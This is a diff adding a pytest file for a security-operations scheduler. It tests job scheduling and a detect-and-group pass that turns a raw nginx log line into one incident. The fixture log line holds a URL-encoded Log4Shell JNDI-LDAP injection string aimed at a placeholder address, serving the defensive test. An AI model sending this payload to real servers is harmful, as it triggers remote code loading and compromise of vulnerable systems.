@@ -1,0 +1,53 @@
+"""The service scheduler: its jobs, and one detect-and-group pass from a raw log line to an incident."""
+
+from __future__ import annotations
+
+from datetime import UTC, datetime
+
+import pytest
+
+from collectors.parsers import ParseContext, parse
+from soc import search
+from soc.config import Settings
+from soc.scheduler import ServiceScheduler
+
+LINE = (b'198.51.100.9 - - [27/Nov/2026:00:00:01 +0000] "GET /s?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9'
+        b'%2Fa%7D HTTP/1.1" 200 153 "-" "curl/7.88.1"')
+
+
+@pytest.fixture()
+def scheduler(isolated: Settings, monkeypatch: pytest.MonkeyPatch) -> ServiceScheduler:
+    # No settle delay: the test refreshes explicitly, so everything indexed is already visible.
+    monkeypatch.setenv("SOC_DETECT_SETTLE_S", "0")
+    monkeypatch.setenv("SOC_DETECT_RULE_PATHS", "rules/web")
+    return ServiceScheduler(isolated)
+
+
+def test_it_schedules_detection_sla_and_retention(scheduler: ServiceScheduler) -> None:
+    assert {"detect", "sla", "retention"} <= set(scheduler.job_ids())
+    detect = scheduler.scheduler.get_job("detect")
+    assert detect is not None and detect.trigger.interval.total_seconds() == scheduler.detection.interval_s
+
+
+def test_a_raw_attack_line_becomes_one_incident(isolated: Settings, scheduler: ServiceScheduler) -> None:
+    client = search.client(isolated)
+    names = search.names(isolated)
+    event = parse("nginx", LINE, ParseContext(received_at=datetime.now(UTC)))
+    event["organization"] = {"id": "so-tttt"}
+    event["log"] = {"source": {"id": "src-1"}}
+    client.index(index=names.web, body=event, op_type="create", refresh=True)
+
+    scheduler.detect_and_group()
+    client.indices.refresh(index=f"{names.alerts},{names.incidents}")
+    alerts = client.search(index=names.alerts, body={"query": {"match_all": {}}})["hits"]["hits"]
+    assert alerts, "the JNDI line raised no alert"
+    assert all(a["_source"].get("incident_id") for a in alerts), "an alert was left ungrouped"
+    incidents = client.search(index=names.incidents, body={"query": {"match_all": {}}})["hits"]["hits"]
+    assert len(incidents) == len({a["_source"]["rule"]["id"] for a in alerts})
+    assert incidents[0]["_source"]["organization"]["id"] == "so-tttt"
+    assert incidents[0]["_source"]["status"] == "new"
+
+    scheduler.detect_and_group()  # a second pass finds nothing new and changes nothing
+    client.indices.refresh(index=f"{names.alerts},{names.incidents}")
+    assert client.count(index=names.alerts)["count"] == len(alerts)
+    assert client.count(index=names.incidents)["count"] == len(incidents)
